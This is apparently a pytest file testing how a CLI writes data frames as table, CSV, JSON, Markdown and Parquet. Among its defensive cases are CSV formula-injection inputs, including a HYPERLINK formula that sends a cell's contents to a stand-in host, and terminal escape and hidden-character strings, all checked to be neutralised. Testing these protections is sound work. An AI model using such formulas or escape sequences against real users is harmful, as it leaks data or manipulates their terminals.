"""Frames as table, CSV, JSON, JSON Lines, Markdown and Parquet: what each shows, and that nothing gets lost."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from timeline.cli.output import FORMATS, Format, plain, shown, write_frame, write_lines
from timeline.model.problems import ProblemError, UsageProblem
from timeline.model.visible import no_formula, visible

EVENTS = pl.DataFrame(
    {
        "event_id": ["kr-us-0001", "kr-us-0002"],
        "date_first": [date(2025, 9, 24), None],
        "parties": [["KR", "US"], ["KR"]],
        "amount": [350000000000.0, None],
        "recorded_at": [datetime(2025, 9, 25, 8, 0, tzinfo=UTC), None],
    }
)


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def written(frame: pl.DataFrame, format: Format, out: io.StringIO | None = None) -> str:
    out = out or io.StringIO()
    write_frame(frame, format, out)
    return out.getvalue()


def test_a_table_for_people() -> None:
    assert written(EVENTS, "table") == (
        "event_id     date_first   parties         amount   recorded_at\n"
        "───────────────────────────────────────────────────────────────────────\n"
        "kr-us-0001   2025-09-24   KR, US    350000000000   2025-09-25T08:00:00Z\n"
        "kr-us-0002                KR\n"
    )


def test_csv() -> None:
    assert written(EVENTS, "csv") == (
        "event_id,date_first,parties,amount,recorded_at\n"
        "kr-us-0001,2025-09-24,KR;US,350000000000.0,2025-09-25T08:00:00Z\n"
        "kr-us-0002,,KR,,\n"
    )


def test_json_is_a_list_of_records() -> None:
    assert json.loads(written(EVENTS, "json")) == [
        {
            "event_id": "kr-us-0001",
            "date_first": "2025-09-24",
            "parties": ["KR", "US"],
            "amount": 350000000000.0,
            "recorded_at": "2025-09-25T08:00:00Z",
        },
        {"event_id": "kr-us-0002", "date_first": None, "parties": ["KR"], "amount": None, "recorded_at": None},
    ]


def test_json_lines_are_the_same_records_one_a_line() -> None:
    lines = written(EVENTS, "jsonl").splitlines()
    assert [json.loads(line) for line in lines] == json.loads(written(EVENTS, "json"))


def test_markdown() -> None:
    assert written(EVENTS, "markdown") == (
        "| event_id | date_first | parties | amount | recorded_at |\n"
        "| --- | --- | --- | ---: | --- |\n"
        "| kr-us-0001 | 2025-09-24 | KR, US | 350000000000 | 2025-09-25T08:00:00Z |\n"
        "| kr-us-0002 |  | KR |  |  |\n"
    )


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("25% | 15%", "25% \\| 15%"),
        ("two\nlines", "two<br>lines"),
        ("<script>", "&lt;script>"),
        ("back\\|slash", "back\\\\\\|slash"),
    ],
)
def test_markdown_cells_stay_cells(value: str, text: str) -> None:
    assert written(pl.DataFrame({"x": [value]}), "markdown").splitlines()[2] == f"| {text} |"


@pytest.mark.parametrize(
    ("value", "as_shown", "as_json"),
    [
        (None, "", None),
        (True, "true", True),
        (15.0, "15", 15.0),
        (2.5, "2.5", 2.5),
        (3.5e11, "350000000000", 3.5e11),
        (Decimal("1.50"), "1.5", 1.5),
        (Decimal("100"), "100", 100),
        (date(2025, 9, 24), "2025-09-24", "2025-09-24"),
        (datetime(2025, 9, 24, 8, 0, tzinfo=UTC), "2025-09-24T08:00:00Z", "2025-09-24T08:00:00Z"),
        (datetime(2025, 9, 24, 8, 0), "2025-09-24T08:00:00", "2025-09-24T08:00:00"),
        (time(8, 30), "08:30:00", "08:30:00"),
        (timedelta(days=2), "2 days, 0:00:00", "2 days, 0:00:00"),
        (b"\x01\xff", "01ff", "01ff"),
        (["KR", "US"], "KR, US", ["KR", "US"]),
        ([], "", []),
        (
            [{"name": "tariff_rate", "value": 15.0, "role": None}, {"name": "quota", "value": None, "role": "agreed"}],
            "name: tariff_rate, value: 15; name: quota, role: agreed",
            [{"name": "tariff_rate", "value": 15.0, "role": None}, {"name": "quota", "value": None, "role": "agreed"}],
        ),
        (float("nan"), "nan", None),
        (float("inf"), "inf", None),
    ],
)
def test_values(value: Any, as_shown: str, as_json: Any) -> None:
    assert shown(value) == as_shown
    assert plain(value) == as_json
    json.dumps(plain(value), allow_nan=False)


cells = st.one_of(st.none(), st.text(max_size=20))
tables = st.lists(st.fixed_dictionaries({"a": cells, "b": st.lists(st.text(max_size=5), max_size=3)}), max_size=5)


@given(tables)
def test_json_gives_back_what_was_written(rows: list[dict[str, Any]]) -> None:
    frame = pl.DataFrame(rows, schema={"a": pl.String, "b": pl.List(pl.String)})
    assert json.loads(written(frame, "json")) == rows
    assert [json.loads(line) for line in written(frame, "jsonl").split("\n")[:-1]] == rows


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\r\0"), min_size=1, max_size=20), max_size=5))
def test_csv_gives_back_what_was_written_but_for_the_apostrophe_before_a_formula(values: list[str]) -> None:
    rows = list(csv.reader(io.StringIO(written(pl.DataFrame({"x": values}, schema={"x": pl.String}), "csv"))))
    assert [row[0].removeprefix("'") if no_formula(row[0]) != row[0] else row[0] for row in rows[1:]] == values
    assert all(not row[0].lstrip().startswith(tuple("=+-@")) for row in rows)


FORMULAS = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://x.example?"&A1)', '\'=HYPERLINK("http://x.example?"&A1)'),
    ("+1", "'+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("  =1", "'  =1"),
    ("\t=1", "'\t=1"),
    ("＝1", "'＝1"),
    ("'=1", "''=1"),
    ("15 = 15", "15 = 15"),
    ("'quoted'", "'quoted'"),
]


@pytest.mark.parametrize(("value", "cell"), FORMULAS)
def test_no_cell_of_csv_is_run_by_a_spreadsheet(value: str, cell: str) -> None:
    frame = pl.DataFrame({value: [value], "list": [["KR", value]], "number": [-5]})
    (heads, cells) = csv.reader(io.StringIO(written(frame, "csv")))
    assert (heads[0], cells[0], cells[1], cells[2]) == (cell, cell, f"KR;{cell}", "-5")


HIDING = "pay\u202eyap \u200bzero \x1b[31mred\x1b]0;title\x07 \x9b2J \r over \u2066x\u2069 \U000e0041"


@pytest.mark.parametrize("format", ["table", "markdown"])
def test_what_hides_or_steers_is_spelled_out(format: Format) -> None:
    text = written(pl.DataFrame({"x": [HIDING], HIDING: [["KR"]]}), format)
    told = ["202E", "200B", "001B", "0007", "009B", "000D", "2066", "2069", "E0041"]
    assert all(text.count(f"⟨U+{code}⟩") >= 2 for code in told)
    assert not set(text) & (set(HIDING) - set("payxzerodtilv[31m];2J0 "))


@pytest.mark.parametrize("format", ["json", "jsonl"])
def test_json_is_the_same_and_steers_nothing(format: Format) -> None:
    text = written(pl.DataFrame({"x": [HIDING]}), format)
    read = json.loads(text)
    assert (read[0] if format == "json" else read) == {"x": HIDING}
    assert text.replace("\n", "").isprintable()


def test_csv_is_exact_in_a_file_and_spelled_out_on_a_terminal() -> None:
    frame = pl.DataFrame({"x": ["a\x1bb"]})
    assert written(frame, "csv") == "x\na\x1bb\n"
    assert written(frame, "csv", Terminal()) == "x\na⟨U+001B⟩b\n"


@pytest.mark.parametrize("kept", ["한국 👨‍👩‍👧", "نمی‌خواهم", "क्‍ष", "Zürich – “15 %”\t\n"])
def test_ordinary_spelling_is_left_alone(kept: str) -> None:
    assert visible(kept) == kept


@given(st.lists(st.text(max_size=60), min_size=1, max_size=4))
def test_a_table_in_a_pipe_never_cuts_a_value(values: list[str]) -> None:
    text = written(pl.DataFrame({"x": values, "y": [1] * len(values)}), "table")
    for value in values:
        for line in visible(value).split("\n"):
            words = "".join(c for c in line if c.isalnum())
            assert words in "".join(c for c in text if c.isalnum())
    assert "…" not in text or any("…" in value for value in values)


def test_a_table_fits_the_terminal_and_wraps(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "40")
    text = written(pl.DataFrame({"id": ["a"], "summary": ["the ministers met " * 8]}), "table", Terminal())
    assert text.count("ministers") == 8
    assert len(text.splitlines()[2]) <= 40


def test_more_columns_than_fit_become_blocks(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "60")
    frame = pl.DataFrame({f"column_{n}": [f"value of {n}", None] for n in range(12)})
    text = written(frame, "table", Terminal())
    assert all(f"value of {n}" in text for n in range(12))


def test_lines_are_cut_where_the_terminal_ends(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "40")
    out = Terminal()
    write_lines([["a-1", "KR", "the ministers met " * 8], ["a-12", "", "\x1b[31m한국"]], out)
    first, second = out.getvalue().splitlines()
    assert first.startswith("a-1   KR  the ministers met") and first.endswith("…") and len(first) == 40
    assert second.startswith("a-12      ") and second.endswith("한국") and "\x1b" not in second


def test_on_a_narrow_terminal_the_last_cell_stands_below_the_others(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "40")
    out = Terminal()
    write_lines([["talks-0001", "2025-09-24", "proposal", "KR, US (by KR)", "the ministers met " * 8]], out)
    *head, last = out.getvalue().splitlines()
    assert " ".join(head).split() == ["talks-0001", "2025-09-24", "proposal", "KR,", "US", "(by", "KR)"]
    assert last.startswith("  the ministers met") and last.endswith("…") and max(map(len, [*head, last])) <= 40


def test_a_table_shows_markup_as_it_is_and_lets_nothing_steer_the_terminal() -> None:
    text = written(pl.DataFrame({"x": ["[red]15%[/red] :smile:", "\x1b[31mred\x1b]0;title\x07", "\x9b2J"]}), "table")
    assert "[red]15%[/red] :smile:" in text
    assert not set(text) & set("\x1b\x07\x9b")


@pytest.mark.parametrize("format", FORMATS)
def test_an_empty_result_keeps_its_columns(tmp_path: Path, format: Format) -> None:
    file = tmp_path / "out"
    write_frame(EVENTS.head(0), format, file)
    if format == "parquet":
        assert pl.read_parquet(file).schema == EVENTS.schema
    elif format in ("json", "jsonl"):
        assert file.read_text().strip() in ("[]", "")
    else:
        assert "event_id" in file.read_text().splitlines()[0]


def test_parquet_keeps_types(tmp_path: Path) -> None:
    write_frame(EVENTS, "parquet", tmp_path / "x.parquet")
    assert pl.read_parquet(tmp_path / "x.parquet").equals(EVENTS)


def test_parquet_goes_into_a_pipe_but_not_to_a_terminal() -> None:
    pipe = io.TextIOWrapper(io.BytesIO())
    write_frame(EVENTS, "parquet", pipe)
    pipe.buffer.seek(0)
    assert pl.read_parquet(pipe.buffer).equals(EVENTS)
    with pytest.raises(UsageProblem, match="parquet is not for a terminal; name a file with --out"):
        write_frame(EVENTS, "parquet", Terminal())


def test_a_store_is_never_written_over(tmp_path: Path) -> None:
    import duckdb

    duckdb.connect(str(tmp_path / "s.duckdb")).close()
    before = (tmp_path / "s.duckdb").read_bytes()
    for format in FORMATS:
        with pytest.raises(UsageProblem, match="is a store; nothing else is written over it"):
            write_frame(EVENTS, format, tmp_path / "s.duckdb")
    assert (tmp_path / "s.duckdb").read_bytes() == before


@pytest.mark.parametrize("format", ["csv", "parquet"])
def test_a_file_that_cannot_be_written_is_told(tmp_path: Path, format: Format) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(ProblemError, match="cannot be written"):
        write_frame(EVENTS, format, tmp_path / "file" / "x")
